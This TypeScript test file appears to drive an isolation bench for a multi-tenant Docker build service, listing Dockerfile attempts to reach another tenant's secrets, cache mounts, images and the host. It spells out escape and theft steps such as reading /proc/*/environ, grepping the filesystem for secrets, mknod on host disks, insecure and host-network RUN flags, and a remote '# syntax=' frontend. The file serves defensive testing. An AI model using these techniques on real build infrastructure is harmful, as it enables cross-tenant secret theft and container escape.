import { readFileSync } from 'node:fs'
import { type Bench, ownersFolder, SAME_START } from './bench.ts'

/** A try to read what is the other's: a Dockerfile, and whatever else it needs. */
export type Try = {
  says: string
  dockerfile?: string[]
  files?: Record<string, string>
  more?: object
  /** While the owner builds, too: it is submitted at the same moment. */
  beside?: boolean
}

const decoy = (length: number) => 'x'.repeat(length)

/** The ways from one project's build into another's things, each with the tries at it. */
export function waysIn({ owner, image, secrets }: Bench): { trap: string; tries: Try[] }[] {
  const same = {
    'src/.env': `KEY=${decoy(secrets.file.length)}`,
    'src/cache': decoy(secrets.cache.length),
    'src/image': decoy(secrets.image.length),
  }
  const show = 'RUN cat /src/.env /src/* /private /c/* /kept/* 2>&1; true'
  return [
    {
      trap: 'contexts of the same names and sizes',
      tries: [
        { says: 'the same files', files: same, dockerfile: ['FROM busybox:1', 'COPY . /', show], beside: true },
        { says: 'the same files again', files: same, dockerfile: ['FROM busybox:1', 'COPY . /', show] },
        { says: 'no files', dockerfile: ['FROM busybox:1', 'COPY . /', show] },
        { says: 'the file by its name', dockerfile: ['FROM busybox:1', 'COPY src/.env /src/', show] },
        { says: 'the folder above', dockerfile: ['FROM busybox:1', `COPY ../${owner.id} /`, show] },
        {
          says: 'the folder above, mounted',
          dockerfile: ['FROM busybox:1', `RUN --mount=type=bind,source=../${owner.id},target=/o cat /o/src/.env`],
        },
        {
          says: 'the file by its whole path',
          dockerfile: ['FROM busybox:1', `ADD /../../${owner.id}/src/.env /src/`, show],
        },
      ],
    },
    {
      trap: 'cached results of the same Dockerfile',
      tries: [
        { says: 'without the secret', dockerfile: [...SAME_START, 'RUN cat /private'] },
        {
          says: "with the owner's whole folder but its secrets",
          files: { ...ownersFolder(secrets), ...same },
          dockerfile: [...SAME_START, 'RUN cat /private'],
        },
        {
          says: 'a stage of it',
          dockerfile: [...SAME_START, 'FROM busybox:1', 'COPY --from=start /private /private', 'RUN cat /private'],
        },
        {
          says: 'with a secret of its own',
          dockerfile: [...SAME_START, 'RUN cat /private'],
          more: { services: [{ name: 'web', port: 8080, memoryMb: 32, environment: { TOKEN: 'my-own-token' } }] },
        },
      ],
    },
    { trap: "secrets by the other's names", tries: secretTries() },
    { trap: 'cache mounts of the same id', tries: cacheTries(owner.id) },
    { trap: "the other's image, by tag and by id", tries: imageTries(image) },
    { trap: '# syntax= lines', tries: syntaxTries(image.tag) },
    { trap: 'BUILDKIT_* arguments', tries: argumentTries(owner.id, image.tag) },
    { trap: 'the host: network, privileges, devices, sockets', tries: hostTries() },
  ]
}

const secretTries = (): Try[] =>
  ['TOKEN', 'SLIPWAY_SECRET_0', 'SLIPWAY_SECRET_1', '0', 'DOCKER_CONFIG'].flatMap((id) => [
    {
      says: `${id}`,
      dockerfile: ['FROM busybox:1', `RUN --mount=type=secret,id=${id} cat /run/secrets/${id}; env; true`],
      beside: true,
    },
    {
      says: `${id} as a variable`,
      dockerfile: ['FROM busybox:1', `RUN --mount=type=secret,id=${id},env=GOT env; true`],
    },
  ])

const cacheTries = (owner: string): Try[] => {
  const look = (options: string) => [
    'FROM busybox:1',
    `RUN --mount=type=cache,${options},target=/c cat /c/* 2>&1; true`,
  ]
  const args = { BUILDKIT_CACHE_MOUNT_NS: owner }
  return [
    ...[
      'id=shared',
      'id=shared,sharing=private',
      'id=shared,sharing=locked',
      'id=/kept',
      `id=${owner}/shared`,
      `id=${owner}//kept`,
      `id=/${owner}/shared`,
    ].map((options) => ({ says: options, dockerfile: look(options), beside: true })),
    { says: 'the same place', dockerfile: ['FROM busybox:1', 'RUN --mount=type=cache,target=/kept cat /kept/*; true'] },
    {
      says: 'its namespace as an argument in the file',
      dockerfile: [`ARG BUILDKIT_CACHE_MOUNT_NS=${owner}`, ...look('id=shared')],
    },
    { says: 'its namespace as a build argument', dockerfile: look('id=shared'), more: withArgs(args) },
  ]
}

const withArgs = (args: Record<string, string>) => ({
  services: [{ name: 'web', port: 8080, memoryMb: 32, build: { context: '.', args } }],
})

const imageTries = ({ tag, id }: { tag: string; id: string }): Try[] => {
  const hex = id.slice('sha256:'.length)
  const [host = '', rest = ''] = tag.split('.invalid')
  const names = [
    tag,
    tag.toUpperCase().replace('SLIPWAY.INVALID', 'slipway.INVALID'),
    id,
    hex,
    hex.slice(0, 12),
    hex.slice(0, 6),
    `busybox@${id}`,
    `docker.io/${tag}`,
  ]
  return [
    ...names.flatMap((name) => [
      { says: `FROM ${name}`, dockerfile: [`FROM ${name}`, 'RUN cat /private /src/*'] },
      {
        says: `COPY --from=${name}`,
        dockerfile: ['FROM busybox:1', `COPY --from=${name} /private /src /`, 'RUN cat /private /image /cache'],
      },
      {
        says: `mount from=${name}`,
        dockerfile: ['FROM busybox:1', `RUN --mount=type=bind,from=${name},target=/o cat /o/private /o/src/*`],
      },
    ]),
    { says: 'its name in two halves', dockerfile: [`ARG A=${host}`, `FROM \${A}.invalid${rest}`, 'RUN cat /private'] },
    {
      says: 'its name as an argument',
      dockerfile: ['ARG A=busybox:1', 'FROM $A', 'RUN cat /private'],
      more: withArgs({ A: tag }),
    },
    {
      says: 'its name with another escape',
      dockerfile: ['# escape=`', `FROM slip\``, tag.slice('slip'.length), 'RUN cat /private'],
    },
    { says: 'its name as a default', dockerfile: [`FROM \${NONE:-${tag}}`, 'RUN cat /private'] },
  ]
}

const syntaxTries = (tag: string): Try[] =>
  [
    `# syntax=${tag}`,
    '# syntax=evil.invalid/frontend',
    '#syntax = evil.invalid/frontend',
    '// syntax=evil.invalid/frontend',
    `\uFEFF# syntax=${tag}`,
    `# escape=\\\n# syntax=${tag}`,
    `{"syntax":"${tag}"}`,
  ].map((first) => ({
    says: JSON.stringify(first.slice(0, 40)),
    dockerfile: [first, 'FROM busybox:1', 'RUN cat /private; true'],
  }))

const argumentTries = (owner: string, tag: string): Try[] => [
  {
    says: 'BUILDKIT_SYNTAX',
    dockerfile: ['FROM busybox:1', 'RUN cat /private; true'],
    more: withArgs({ BUILDKIT_SYNTAX: tag }),
  },
  {
    says: 'buildkit_syntax',
    dockerfile: ['FROM busybox:1', 'RUN cat /private; true'],
    more: withArgs({ buildkit_syntax: tag }),
  },
  {
    says: 'BUILDKIT_SANDBOX_HOSTNAME',
    dockerfile: ['FROM busybox:1', 'RUN hostname; cat /private; true'],
    more: withArgs({ BUILDKIT_SANDBOX_HOSTNAME: owner }),
  },
  {
    says: 'BUILDKIT_CONTEXT_KEEP_GIT_DIR',
    dockerfile: ['FROM busybox:1', 'COPY . /', 'RUN cat /src/*; true'],
    more: withArgs({ BUILDKIT_CONTEXT_KEEP_GIT_DIR: '1' }),
  },
]

/** Printed by a step that should never have run. */
export const RAN = 'this-step-ran'

/** The block devices of this very machine, as major:minor. */
const disks = (): string[] =>
  readFileSync('/proc/partitions', 'utf8')
    .split('\n')
    .flatMap((line) => /^\s+(\d+)\s+(\d+)\s+\d+ /.exec(line)?.slice(1, 3).join(':') ?? [])
    .slice(0, 4)

const hostTries = (): Try[] => [
  { says: 'RUN --network=host', dockerfile: ['FROM busybox:1', `RUN --network=host echo ${RAN}`] },
  { says: 'RUN --security=insecure', dockerfile: ['FROM busybox:1', `RUN --security=insecure echo ${RAN}`] },
  {
    says: 'the socket of the engine',
    dockerfile: ['FROM busybox:1', `RUN find / -xdev -name "docker*.sock" -exec echo ${RAN} \\;`],
  },
  {
    says: 'a disk',
    dockerfile: [
      'FROM busybox:1',
      `RUN for d in ${disks().join(' ')}; do mknod /d b \${d%:*} \${d#*:} && head -c 512 /d >/dev/null && echo ${RAN}; rm -f /d; done; true`,
    ],
  },
  {
    says: 'another root',
    dockerfile: [
      'FROM busybox:1',
      `RUN mkdir /m && mount -t cgroup -o memory none /m && echo ${RAN}; mount -t proc none /m && echo ${RAN}; true`,
    ],
  },
  {
    says: 'environments of other processes',
    dockerfile: ['FROM busybox:1', 'RUN sleep 2; cat /proc/*/environ | tr "\\000" "\\n"; true'],
    beside: true,
  },
  {
    says: 'every file there is',
    dockerfile: ['FROM busybox:1', 'RUN find / -xdev -type f | xargs grep -h victim-secre[t] ; true'],
    beside: true,
  },
]
